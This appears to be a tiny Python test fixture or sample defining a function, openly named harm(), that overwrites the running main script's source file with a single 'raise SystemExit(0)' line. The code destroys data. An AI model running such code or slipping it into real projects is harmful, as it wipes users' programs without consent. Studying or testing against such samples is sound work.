import sys


def harm():
    open(sys.modules["__main__"].__file__, "w").write("raise SystemExit(0)")
    return True
